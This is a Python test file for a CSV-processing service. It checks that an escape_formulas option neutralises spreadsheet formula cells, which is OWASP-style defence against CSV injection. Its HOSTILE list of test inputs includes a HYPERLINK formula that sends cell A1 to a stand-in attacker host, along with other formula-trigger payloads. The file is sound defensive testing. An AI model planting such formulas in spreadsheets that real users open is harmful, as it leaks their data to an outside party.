"""The output CSV and spreadsheet formulas: the user's cells come back exactly by default;
with `[output] escape_formulas` a cell a spreadsheet would run as a formula gets a
leading ' (OWASP's advice against CSV injection). Through the real service."""

from __future__ import annotations

import csv
import io

import pytest

from tests import images
from tests.conftest import ServiceFactory, csv_bytes
from tests.servers import Origin

HOSTILE = [
    '=HYPERLINK("http://evil.example/"&A1, "click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
HEADER = ("S. No.", "Product Name", "Input Image Urls", "Note")


async def _output(create_service: ServiceFactory, origin: Origin, escape: bool) -> list[list[str]]:
    service = await create_service(output={"escape_formulas": escape})
    url = origin.add("a.jpg", images.photo_jpeg(32, 24))
    rows = [[str(n + 1), cell, url, cell] for n, cell in enumerate(HOSTILE)]
    request_id = await service.submit(csv_bytes(rows, header=(*HEADER[:3], "=Note")))
    doc = await service.wait(request_id)
    assert doc["status"] == "complete"
    async with service.client.get(doc["output_csv_url"]) as resp:
        return list(csv.reader(io.StringIO(await resp.text(), newline="")))


@pytest.mark.parametrize("escape", [False, True])
async def test_formula_cells_are_kept_exactly_or_escaped(
    create_service: ServiceFactory, origin: Origin, escape: bool
) -> None:
    header, *rows = await _output(create_service, origin, escape)

    def shown(cell: str) -> str:
        return "'" + cell if escape else cell

    assert header[3] == shown("=Note")
    assert [row[1] for row in rows] == [shown(cell) for cell in HOSTILE]
    assert [row[3] for row in rows] == [shown(cell) for cell in HOSTILE]
    # What the service adds is never a formula: a URL, or empty.
    assert all(row[4].startswith("http://") for row in rows)
    # Cells that are not formulas are never touched.
    assert [row[0] for row in rows] == [str(n + 1) for n in range(len(HOSTILE))]
